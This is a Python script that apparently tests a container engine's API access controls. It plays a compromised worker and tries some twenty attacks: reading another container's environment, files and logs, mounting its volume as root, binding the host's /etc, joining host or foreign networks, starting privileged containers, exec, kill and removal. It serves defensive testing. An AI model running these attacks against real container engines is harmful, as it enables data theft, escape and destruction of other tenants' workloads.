"""What somebody who has taken over a worker would try of the engine that the worker may ask: ``attack.py WHAT``, a JSON object.

It names the engine's ``address`` (host:port, or the path of a socket), a stranger's container (``id``, ``name``), its ``volume`` with a password, its
``network``, an ``image`` and a ``body`` that makes a step. What got through is printed, a JSON object of names and what was had.
"""

from __future__ import annotations

import http.client
import json
import socket
import sys
from copy import deepcopy
from typing import Any
from urllib.parse import quote

SECRET = "the-strangers-password"


class _Unix(http.client.HTTPConnection):
    def __init__(self, path: str) -> None:
        super().__init__("engine", timeout=30)
        self.path = path

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(self.path)


class Attack:
    """One attacker with one engine; every method is an attack and returns what it got, empty where it got nothing."""

    def __init__(self, what: dict[str, Any]) -> None:
        self.what = what

    def ask(self, method: str, path: str, body: Any = None) -> tuple[int, str]:
        address = self.what["address"]
        connection = _Unix(address) if address.startswith("/") else http.client.HTTPConnection(address, timeout=30)
        text = body if body is None or isinstance(body, str) else json.dumps(body)
        try:
            connection.request(method, path, text, {"Content-Type": "application/json"})
            answer = connection.getresponse()
            return answer.status, answer.read().decode(errors="replace")
        finally:
            connection.close()

    def leaks(self, method: str, path: str, word: str = SECRET) -> str:
        status, text = self.ask(method, path)
        return f"{status}: {word}" if word in text else ""

    def runs(self, body: dict[str, Any]) -> str:
        """Make, start and read a container; what it could print of the secret."""
        status, text = self.ask("POST", "/v1.41/containers/create", body)
        if status != 201:
            return ""
        made = json.loads(text)["Id"]
        try:
            self.ask("POST", f"/containers/{made}/start")
            self.ask("POST", f"/containers/{made}/wait")
            return f"made; {self.leaks('GET', f'/containers/{made}/logs?stdout=1')}"
        finally:
            self.ask("DELETE", f"/containers/{made}?force=1")

    def step(self, **host: Any) -> dict[str, Any]:
        """The body of a real step, with another host configuration."""
        body = deepcopy(self.what["body"])
        body["HostConfig"] |= host
        return body

    @property
    def reads_state(self) -> dict[str, Any]:
        return {"Target": "/state", "Source": self.what["volume"], "Type": "volume", "ReadOnly": True}

    # --- attacks

    def environment_by_id(self) -> str:
        return self.leaks("GET", f"/containers/{self.what['id']}/json")

    def environment_by_short_id(self) -> str:
        return self.leaks("GET", f"/v1.41/containers/{self.what['id'][:12]}/json")

    def environment_by_name(self) -> str:
        return self.leaks("GET", f"/containers/{self.what['name']}/json")

    def file_of_a_stranger(self) -> str:
        return self.leaks("GET", f"/containers/{self.what['id']}/archive?path=/state/password")

    def whole_of_a_stranger(self) -> str:
        status, _ = self.ask("GET", f"/containers/{self.what['id']}/export")
        return "exported" if status == 200 else ""

    def strangers_are_listed(self) -> str:
        return self.leaks("GET", "/containers/json?all=1", self.what["name"])

    def strangers_are_listed_by_a_filter(self) -> str:
        return self.leaks(
            "GET",
            "/containers/json?all=1&filters=" + quote(json.dumps({"volume": [self.what["volume"]]})),
            self.what["name"],
        )

    def volumes_are_listed(self) -> str:
        return self.leaks("GET", "/volumes", self.what["volume"])

    def volume_as_root(self) -> str:
        plain = {"Image": self.what["image"], "User": "0:0", "Entrypoint": ["cat", "/state/password"]}
        return self.runs({**plain, "HostConfig": {"Mounts": [self.reads_state]}})

    def volume_by_binds(self) -> str:
        plain = {"Image": self.what["image"], "User": "0:0", "Entrypoint": ["cat", "/state/password"]}
        return self.runs({**plain, "HostConfig": {"Binds": [f"{self.what['volume']}:/state"]}})

    def volume_in_a_step(self) -> str:
        body = self.step(Mounts=[*self.what["body"]["HostConfig"]["Mounts"], self.reads_state])
        return self.runs(body | {"User": "0:0", "Entrypoint": ["cat", "/state/password"]})

    def volume_in_the_place_of_data(self) -> str:
        (first, *rest) = self.what["body"]["HostConfig"]["Mounts"]
        return self.runs(self.step(Mounts=[{**first, "Source": self.what["volume"], "Type": "volume"}, *rest]))

    def volumes_of_a_stranger(self) -> str:
        return self.runs(self.step(VolumesFrom=[self.what["id"]]) | {"Entrypoint": ["cat", "/state/password"]})

    def folder_of_the_host(self) -> str:
        mounts = [{"Target": "/host", "Source": "/etc", "Type": "bind", "ReadOnly": True}]
        return self.runs(
            {"Image": self.what["image"], "Entrypoint": ["cat", "/host/hostname"], "HostConfig": {"Mounts": mounts}}
        )

    def network_of_a_stranger(self) -> str:
        return self.runs(self.step(NetworkMode=self.what["network"]) | {"Entrypoint": ["true"]})

    def network_of_the_host(self) -> str:
        return self.runs(self.step(NetworkMode="host") | {"Entrypoint": ["true"]})

    def rights_are_given_at_the_start(self) -> str:
        """The API before 1.24 takes the host configuration there. A newer engine may refuse the version."""
        status, text = self.ask(
            "POST", "/v1.22/containers/create", {"Image": self.what["image"], "Entrypoint": ["true"]}
        )
        if status != 201:
            return ""
        made = json.loads(text)["Id"]
        status, _ = self.ask("POST", f"/v1.22/containers/{made}/start", {"Privileged": True})
        self.ask("DELETE", f"/containers/{made}?force=1")
        return "started" if status == 204 else ""

    def process_in_a_stranger(self) -> str:
        status, _ = self.ask("POST", f"/containers/{self.what['id']}/exec", {"Cmd": ["cat", "/state/password"]})
        return "made" if status == 201 else ""

    def output_of_a_stranger(self) -> str:
        return self.leaks("GET", f"/containers/{self.what['id']}/logs?stdout=1")

    def stranger_is_stopped(self) -> str:
        status, _ = self.ask("POST", f"/containers/{self.what['id']}/kill")
        return "killed" if status == 204 else ""

    def stranger_is_removed(self) -> str:
        """The last, since nothing of it is left."""
        status, _ = self.ask("DELETE", f"/containers/{self.what['id']}?force=1&v=1")
        return "removed" if status == 204 else ""


def attacks() -> list[str]:
    """The names of all attacks, in order."""
    names = list(vars(Attack))
    return [name for name in names[names.index("environment_by_id") :] if not name.startswith("_")]


if __name__ == "__main__":
    attacker = Attack(json.loads(sys.argv[1]))
    print(json.dumps({name: had for name in attacks() if (had := getattr(attacker, name)())}))
